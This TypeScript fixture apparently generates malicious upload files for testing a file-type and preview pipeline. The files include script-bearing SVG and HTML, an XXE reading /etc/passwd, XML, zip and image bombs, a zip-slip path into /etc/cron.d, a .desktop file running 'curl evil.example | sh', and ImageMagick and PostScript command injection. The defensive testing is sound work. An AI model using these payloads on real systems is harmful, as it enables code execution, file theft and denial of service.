import { crc32, deflateRawSync, gzipSync } from 'node:zlib';
import * as pictures from './hostilePictures.factory.ts';
import { payload } from './hostilePictures.factory.ts';

/** A file that means harm: its name, what is in it, what we take it for, and whether a preview is drawn of it. */
export interface Hostile {
  title: string;
  name: string;
  bytes: Buffer | Promise<Buffer>;
  type: string | RegExp;
  drawn: boolean;
}

const html = `<!doctype html><html><body onload="fetch('/pwned')">${payload}</body></html>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="fetch('/pwned')">${payload}<foreignObject>${html}</foreignObject></svg>`;
const laughs = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "lol">${Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')}]><a>&l9;</a>`;
const text = 'text/plain';
const xml = /^(text\/plain|application\/xml)$/;
const unknown = 'application/octet-stream';
const file = (title: string, name: string, bytes: string | Buffer | Promise<Buffer>, type: string | RegExp, drawn = false): Hostile => ({
  title, name, type, drawn, bytes: typeof bytes === 'string' ? Buffer.from(bytes) : bytes,
});

export const hostileFiles = (): Hostile[] => [
  file('an SVG with script', 'logo.svg', svg, xml),
  file('an SVG with script, declared', 'logo.svg', `<?xml version="1.0"?>\n${svg}`, xml),
  file('an SVG named .png', 'logo.png', svg, xml),
  file('a packed SVG', 'logo.svgz', gzipSync(svg), 'application/gzip'),
  file('an SVG that fetches a file of the server', 'xxe.svg', `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text><image href="file:///etc/passwd"/></svg>`, xml),
  file('HTML', 'page.html', html, text),
  file('HTML named .png', 'page.png', html, text),
  file('HTML with a mark that it is UTF-8', 'page.txt', `\ufeff${html}`, text),
  file('HTML in UTF-16, with its mark', 'page.txt', Buffer.from(`\ufeff${html}`, 'utf16le'), unknown),
  file('HTML in UTF-7', 'page.txt', '+ADw-script+AD4-fetch(+ACI-/pwned+ACI-)+ADw-/script+AD4-', text),
  file('XHTML', 'page.xhtml', `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${payload}</html>`, 'application/xml'),
  file('a saved page (MHTML)', 'page.mht', `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n${html}\r\n--x--`, text),
  file('an XML bomb', 'laughs.xml', laughs, 'application/xml'),
  file('an application in HTML', 'invoice.hta', `<hta:application/>${payload}`, text),
  file('a script', 'worker.js', 'self.addEventListener("fetch", () => fetch("/pwned"))', text),
  file('a style sheet', 'style.css', '@import url(/pwned); body { background: url(/pwned) }', text),
  file('a starter of Linux', 'Invoice.desktop', '[Desktop Entry]\nType=Application\nName=Invoice\nExec=sh -c "curl evil.example | sh"\n', text),
  file('a shortcut of Windows', 'Invoice.pdf.lnk', Buffer.concat([Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]), Buffer.alloc(60)]), /^application\//),
  file('an address of Windows', 'page.url', '[InternetShortcut]\r\nURL=javascript:alert(1)\r\n', text),
  file('a program of Windows', 'setup.exe', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]), /^application\//),
  file('a program of Linux', 'run', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(200)]), /^application\//),
  file('a PDF that is HTML as well', 'paper.pdf', `%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\n${html}`, 'application/pdf'),
  file('PostScript', 'paper.eps', '%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file', /^(application|image)\//),
  file('a zip bomb', 'bomb.zip', zipOf('zeros', Buffer.alloc(100_000_000)), 'application/zip'),
  file('a zip with a path that leads out', 'slip.zip', zipOf('../../../../etc/cron.d/x', Buffer.from('* * * * * root id')), 'application/zip'),
  file('a GIF that is a script as well, and no picture', 'a.gif', 'GIF89a/*\x01\x01\x00\x00*/=1;fetch("/pwned")//', 'image/gif'),
  file('a GIF with a script behind it', 'a.gif', pictures.withTail(pictures.gif(), payload), 'image/gif', true),
  file('a PNG that is a zip as well', 'a.png', pictures.withTail(pictures.png(), zipOf('x.html', Buffer.from(html))), 'image/png', true),
  file('a JPEG with HTML behind it', 'a.html', pictures.withTail(pictures.jpeg(), html), 'image/jpeg', true),
  file('a JPEG with a script in its EXIF', 'a.jpg', pictures.jpegWithExif(), 'image/jpeg', true),
  file('a PNG with a script in its comment', 'a.png', pictures.pngWithText(), 'image/png', true),
  file('a PNG of 60,000 by 60,000', 'bomb.png', pictures.pngBomb(60_000, 60_000), 'image/png'),
  file('a PNG that is one line of 2,147,483,647', 'bomb.png', pictures.pngBomb(2_147_483_647, 1), 'image/png'),
  file('a PNG without pixels', 'none.png', pictures.pngBomb(0, 0), 'image/png'),
  file('a JPEG of 65,500 by 65,500', 'bomb.jpg', pictures.jpegBomb(), 'image/jpeg'),
  file('a GIF of 65,535 by 65,535', 'bomb.gif', pictures.gifBomb(), 'image/gif'),
  file('a WebP of 16,383 by 16,383', 'bomb.webp', pictures.webpBomb(), 'image/webp'),
  file('an AVIF of 65,535 by 65,535', 'bomb.avif', pictures.avifBomb(), 'image/avif'),
  file('a PNG that was cut off', 'cut.png', pictures.cutOff(pictures.png()), 'image/png'),
  file('a JPEG that was cut off', 'cut.jpg', pictures.cutOff(pictures.jpeg()), 'image/jpeg'),
  file('a WebP that was cut off', 'cut.webp', pictures.cutOff(pictures.webp()), 'image/webp'),
  file('an AVIF that was cut off', 'cut.avif', pictures.cutOff(pictures.avif()), 'image/avif'),
  file('a TIFF named .png', 'a.png', pictures.tiff(), 'image/tiff'),
  file('a BMP', 'a.bmp', pictures.bmp(), 'image/bmp'),
  file('an ICO', 'favicon.ico', pictures.ico(), 'image/x-icon'),
  file('a PSD', 'a.psd', pictures.psd(), /photoshop/),
  file('a picture for ImageMagick', 'a.mvg', `push graphic-context\nimage over 0,0 0,0 'https://evil.example/"|id"'\npop graphic-context`, text),
  file('a picture of numbers (PPM)', 'a.ppm', 'P3 99999 99999 255\n1 2 3\n', text),
  file('bytes of no kind', 'noise.bin', Buffer.from(Array.from({ length: 999 }, (_, n) => (n * 7919) % 251)), unknown),
  file('a single NUL', 'nul.txt', '\0', unknown),
];

/** One file, packed. */
function zipOf(name: string, content: Buffer): Buffer {
  const packed = deflateRawSync(content);
  const head = Buffer.alloc(26);
  head.writeUInt16LE(20, 0);
  head.writeUInt16LE(8, 4);
  head.writeUInt32LE(crc32(content), 10);
  head.writeUInt32LE(packed.length, 14);
  head.writeUInt32LE(content.length, 18);
  head.writeUInt16LE(name.length, 22);
  const local = Buffer.concat([Buffer.from('PK\x03\x04'), head, Buffer.from(name), packed]);
  const central = Buffer.concat([Buffer.from('PK\x01\x02'), Buffer.from([20, 0]), head, Buffer.alloc(14), Buffer.from(name)]);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(1, 4);
  end.writeUInt16LE(1, 6);
  end.writeUInt32LE(central.length, 8);
  end.writeUInt32LE(local.length, 12);
  return Buffer.concat([local, central, Buffer.from('PK\x05\x06'), end]);
}
